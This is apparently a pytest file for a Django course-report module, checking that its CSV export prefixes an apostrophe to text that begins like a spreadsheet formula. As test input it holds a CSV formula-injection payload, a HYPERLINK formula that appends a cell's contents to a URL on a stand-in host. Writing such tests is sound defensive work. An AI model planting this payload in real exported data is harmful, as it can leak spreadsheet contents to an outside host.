"""The course report's CSV: text written by editors and coordinators (the course's title, competence area names)
is never run by a spreadsheet as a formula."""

import csv
import io

import pytest

from learning import services
from learning.reports import course_report, report_csv

from .conftest import make_person

pytestmark = pytest.mark.django_db

LOW = {"a1": "a1b"}
HIGH = {"b1": "b1a", "b2": "false", "b3": "b3b"}


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def test_report_csv_neutralises_text_that_looks_like_a_formula(course, areas):
    course.title = '=HYPERLINK("http://example.invalid/?"&A1;"Kliknij")'
    course.save()
    area = areas[0]
    area.name = "+SUM(1;2)"
    area.save()
    person = make_person()
    enrolment, _created = services.enrol(course, person)
    services.record_competence_test(enrolment, "pre", LOW)
    services.record_competence_test(enrolment, "post", HIGH)
    rows = _rows(report_csv(course_report(course)))
    cells = [cell for row in rows for cell in row]
    assert not any(cell[:1] in ("=", "+", "@") for cell in cells), cells
    assert "'" + course.title in cells
    assert "'+SUM(1;2)" in cells
